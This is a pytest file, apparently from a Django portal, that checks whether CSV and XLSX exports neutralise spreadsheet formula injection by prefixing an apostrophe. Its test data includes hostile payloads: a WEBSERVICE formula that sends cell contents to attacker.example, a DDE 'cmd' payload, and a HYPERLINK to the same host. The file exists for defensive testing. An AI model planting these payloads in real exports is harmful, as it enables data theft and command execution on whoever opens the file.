"""Text that looks like a formula is written as text by every CSV and XLSX the portal makes.

Issue 16: a unit's note "=WEBSERVICE(…)" or "=HYPERLINK(…)" became a live formula cell in the
audit-log admin export, and "=cmd|' /C calc'!A0" stayed raw in its CSV, because that export did
not pass through the shared guard (parindex.tabular.escape_formula). Each export below gets
formula-looking text in a unit name, a note, a reason or a person's name, is reopened as Excel
would open it, and no cell may be a formula; the text is shown as typed, behind an apostrophe.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from openpyxl import load_workbook

from parindex.tabular import SheetSpec, csv_bytes, escape_formula, xlsx_bytes
from scoring.models import AuditAction, AuditEntry
from tests.factories import IndexItemFactory, IndexSetFactory, PeriodFactory, RankingGroupFactory
from tests.scoring.test_command_contract import files, imported, run  # noqa: F401 (fixtures)
from units.models import Unit

WEBSERVICE = '=WEBSERVICE("http://attacker.example/?"&A1)'
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://attacker.example","Bấm vào đây")'
PLANTED = [WEBSERVICE, DDE, HYPERLINK, "+1+1", "@SUM(A1)", "-1+2", "＝1+1", "  =1+1", '"=1+1']


# ---------------------------------------------------------------- the guard itself


@pytest.mark.parametrize(
    "text",
    [
        WEBSERVICE,
        DDE,
        HYPERLINK,
        "+1+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",  # full-width forms
        "＋1",
        "－1",
        "＠SUM(A1)",
        "  =1+1",  # Excel still evaluates after blanks
        "\u00a0=1+1",
        '"=1+1',  # and after a double quote
        '  "@SUM(A1)',
        "+84 912 345 678",  # a phone number written with +: text, kept as text
    ],
)
def test_the_guard_neutralises_every_formula_start(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [-2.76, -2, Decimal("-0.5"), 0, "-2.76", "-2,76", "+5", "12", "", None, "Sở Tư pháp", "'=x"],
)
def test_numbers_and_plain_text_pass_unchanged(value):
    assert escape_formula(value) == value


def test_the_shared_writers_keep_numbers_as_numbers_and_formulas_as_text():
    rows = [[text, -2.76, Decimal("-1.5")] for text in PLANTED]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([SheetSpec("S", ["a", "b", "c"], rows)]))).active
    assert_no_formula(sheet, PLANTED)
    assert [row[1].data_type for row in sheet.iter_rows(min_row=2)] == ["n"] * len(PLANTED)
    assert sheet["B2"].value == -2.76
    fields = list(csv.reader(io.StringIO(csv_bytes(rows, ["a", "b", "c"]).decode("utf-8-sig"))))
    assert [row[0] for row in fields[1:]] == ["'" + text for text in PLANTED]
    assert fields[1][1] == "-2.76" and fields[1][2] == "-1.5"
    # A header is escaped too (a header can be an area's or a group's name).
    assert csv_bytes([], ["=x"]).decode("utf-8-sig").startswith("'=x")


# ---------------------------------------------------------------- helpers


def assert_no_formula(sheet, planted):
    """No cell is a formula, and every planted text is there, shown literally."""
    found = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                for text in planted:
                    if cell.value == "'" + text:
                        found.add(text)
                    assert cell.value != text, (cell.coordinate, cell.value)
    assert found == set(planted), set(planted) - found


def assert_csv_neutralised(text, planted):
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    for value in planted:
        assert value not in fields, value
        assert "'" + value in fields, value


# ---------------------------------------------------------------- admin exports


def admin_export(client, model_admin_url: str, fmt: str):
    """The admin's export page as a system admin uses it: every column, the chosen format."""
    page = client.get(reverse(model_admin_url))
    assert page.status_code == 200
    form = page.context["form"]
    formats = dict((label, value) for value, label in form.fields["format"].choices)
    data = {"resource": "0", "format": formats[fmt]}
    for name in form.fields:
        if name not in ("resource", "format", "export_items"):
            data[name] = "on"
    response = client.post(reverse(model_admin_url), data)
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return response


@pytest.fixture
def planted_audit(personas):
    """Audit rows written by a unit's staff: their note, reason and the unit's name."""
    unit = personas["unit_a"]
    unit.name = HYPERLINK
    unit.save()
    for index, text in enumerate(PLANTED):
        AuditEntry.objects.create(
            actor=personas["staff_a"],
            content_type=ContentType.objects.get_for_model(Unit),
            object_id=unit.pk,
            object_repr=unit.name if index == 0 else f"Mục {index}",
            action=AuditAction.UPDATE,
            field="self_note",
            old_value="",
            new_value=text,
            reason=WEBSERVICE if index == 1 else "",
        )


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_audit_log_admin_export_writes_no_formula(client, personas, planted_audit, fmt):
    client.force_login(personas["admin"])
    response = admin_export(client, "admin:scoring_auditentry_export", fmt)
    if fmt == "xlsx":
        assert_no_formula(load_workbook(io.BytesIO(response.content)).active, PLANTED)
    else:
        assert response.content.startswith("\ufeff".encode())
        assert_csv_neutralised(response.content.decode("utf-8-sig"), PLANTED)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(
    ("url", "make"),
    [
        ("admin:units_unit_export", lambda p: Unit.objects.filter(pk=p["unit_a"].pk)),
        (
            "admin:units_rankinggroup_export",
            lambda p: RankingGroupFactory(organiser=p["organiser"], code="g"),
        ),
        ("admin:units_unitkind_export", lambda p: p["kind"]),
        (
            "admin:scoring_indexitem_export",
            lambda p: IndexItemFactory(
                index_set=IndexSetFactory(
                    period=PeriodFactory(organiser=p["organiser"]), unit_kind=p["kind"]
                )
            ),
        ),
    ],
)
def test_every_admin_export_writes_a_formula_name_as_text(client, personas, url, make, fmt):
    made = make(personas)
    target = made.first() if hasattr(made, "first") else made
    target.name = HYPERLINK
    target.save()
    client.force_login(personas["admin"])
    response = admin_export(client, url, fmt)
    if fmt == "xlsx":
        assert_no_formula(load_workbook(io.BytesIO(response.content)).active, [HYPERLINK])
    else:
        assert_csv_neutralised(response.content.decode("utf-8-sig"), [HYPERLINK])


# ---------------------------------------------------------------- other exports


def test_the_rankings_command_csv_writes_a_renamed_unit_as_text(imported):  # noqa: F811
    Unit.objects.filter(code="SC").update(name=HYPERLINK)
    output = run("rankings", "--year", "2025", "--format", "csv", "--group", "so")
    assert_csv_neutralised(output.lstrip("\ufeff"), [HYPERLINK])
    row = next(
        r for r in csv.DictReader(io.StringIO(output.lstrip("\ufeff"))) if r["unit_code"] == "SC"
    )
    assert row["points"] == "69.25"  # numbers untouched


def test_the_accounts_template_lists_a_formula_unit_name_as_text(client, personas):
    personas["unit_a"].name = HYPERLINK
    personas["unit_a"].save()
    client.force_login(personas["home_affairs"])
    response = client.get(reverse("scoring:setup_accounts_template"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    named = [cell for cell in cells if cell.value and HYPERLINK in str(cell.value)]
    assert named and all(cell.data_type == "s" for cell in named)
